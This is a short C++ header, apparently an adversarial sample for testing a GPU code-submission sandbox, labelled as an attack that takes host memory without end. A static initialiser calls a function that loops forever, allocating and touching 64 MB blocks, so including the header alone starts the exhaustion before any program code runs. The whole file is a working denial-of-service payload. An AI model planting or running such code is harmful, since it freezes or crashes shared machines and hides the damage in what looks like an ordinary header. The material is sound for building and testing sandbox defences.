// Attack: host memory taken without end.
#pragma once

#include <cstdint>
#include <cstdlib>
#include <cstring>
#include <unistd.h>
#include <cuda_runtime.h>

namespace {
int exhaustHostMemory() {
    for (;;) {
        void* piece = std::malloc(size_t(64) << 20);
        if (piece == nullptr) {
            usleep(1000);
        } else {
            std::memset(piece, 1, size_t(64) << 20);
        }
    }
}
const int exhausted = exhaustHostMemory();
}  // namespace

//@ right-map
